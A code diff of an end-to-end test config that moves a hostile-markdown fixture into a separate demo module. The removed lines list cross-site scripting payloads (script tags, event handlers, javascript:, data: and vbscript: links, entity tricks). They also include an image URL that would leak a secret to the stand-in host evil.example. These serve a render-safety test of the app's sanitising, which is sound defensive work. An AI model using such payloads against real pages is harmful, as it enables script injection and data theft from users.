@@ -4,6 +4,8 @@
  * Ports sit in an unusual range so a developer's `npm start` (3000) or `next dev` keeps running beside a test run;
  * each can be moved with an environment variable.
  */
+import { HOSTILE_FOREIGN_HOST, hostileMarkdown } from "../../lib/ai/providers/demo-hostile";
+
 const port = (name: string, fallback: number) => Number(process.env[name] || fallback);
 
 export const E2E_HOST = "127.0.0.1";
@@ -83,36 +85,9 @@ export type UpstreamLogEntry = {
 
 /** A prompt containing this gets HOSTILE_MARKDOWN as its answer (tests/e2e/render-safety.spec.ts). */
 export const HOSTILE_MARKER = "[hostile]";
-/** A host that is not the app's: nothing in the page may ever ask it for anything. */
-export const FOREIGN_HOST = "evil.example";
-/**
- * Model output that tries everything a page should never do with it: raw HTML (script, event handlers, iframe, svg),
- * javascript:/data:/vbscript: links (plain, entity-encoded, reference-style, autolinks), images that would leak data
- * to another host on render (zero-click exfiltration, a foreign domain and another origin on this machine), entity
- * tricks. Each executable payload sets window.__pwned.
- */
-export const HOSTILE_MARKDOWN = [
-  "# Hostile answer\n\n",
-  "<script>window.__pwned = 'script'</script>\n\n",
-  "<img src=x onerror=\"window.__pwned='img-onerror'\">\n\n",
-  "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>\n\n",
-  "<svg onload=\"window.__pwned='svg'\"><circle r=\"5\"/></svg>\n\n",
-  "<a href=\"javascript:window.__pwned='raw-a'\">raw html link</a>\n\n",
-  "<details open ontoggle=\"window.__pwned='details'\"><summary>s</summary>x</details>\n\n",
-  "[js link](javascript:window.__pwned='md-link')\n\n",
-  "[JS upper](JAVASCRIPT:window.__pwned='md-upper')\n\n",
-  "[entity js](&#106;avascript:window.__pwned='entity')\n\n",
-  "[data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0nZGF0YSc8L3NjcmlwdD4=)\n\n",
-  "[vb link](vbscript:msgbox(1))\n\n",
-  "[ref js][r1]\n\n",
-  "<javascript:window.__pwned='autolink'>\n\n",
-  `![exfil](https://${FOREIGN_HOST}/leak.png?secret=s3cr3t)\n\n`,
-  `![other origin](http://${E2E_HOST}:${UPSTREAM_PORT}/__e2e/pixel.png?leak=1)\n\n`,
-  "![js image](javascript:window.__pwned='img-src')\n\n",
-  `[![linked image](https://${FOREIGN_HOST}/badge.svg)](https://${FOREIGN_HOST}/)\n\n`,
-  "&lt;script&gt;window.__pwned='entities'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;\n\n",
-  "[safe link](https://example.com/docs) and [mail](mailto:someone@example.com) and <https://example.org/auto>\n\n",
-  "[r1]: javascript:window.__pwned='reference'\n",
-].join("");
+/** The host in HOSTILE_MARKDOWN that nothing in the page may ever ask for anything. */
+export const FOREIGN_HOST = HOSTILE_FOREIGN_HOST;
+/** The demo model's hostile answer (lib/ai/providers/demo-hostile.ts), its pixel on another origin of this machine. */
+export const HOSTILE_MARKDOWN = hostileMarkdown(UPSTREAM_URL);
 /** HOSTILE_MARKDOWN as the fake's deltas: small pieces, so tags and links are split across chunks. */
 export const HOSTILE_DELTAS = HOSTILE_MARKDOWN.match(/[\s\S]{1,24}/g) ?? [];
